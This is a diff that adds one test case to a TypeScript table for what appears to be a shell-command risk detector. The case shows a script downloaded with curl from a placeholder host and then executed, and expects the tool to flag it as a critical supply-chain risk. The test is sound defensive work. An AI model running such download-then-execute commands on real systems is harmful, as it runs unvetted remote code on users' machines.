@@ -70,6 +70,13 @@ const FETCHED: readonly [done: readonly string[], line: string, expected: readon
       "run [/home/you/src/app/tool.sh] person critical supply-chain: runs /home/you/src/app/tool.sh, which was fetched from https://x.example.com/x",
     ],
   ],
+  [
+    ["curl -o x.sh https://x.example.com/x"],
+    "cd $D && ./x.sh",
+    [
+      "run [/home/you/src/app/x.sh] person critical supply-chain: runs /home/you/src/app/x.sh, which was fetched from https://x.example.com/x",
+    ],
+  ],
   [["curl -o data.json https://x.example.com/d"], "jq . data.json", []],
   [["curl -o x.sh https://x.example.com/x"], "cat x.sh", []],
 ];
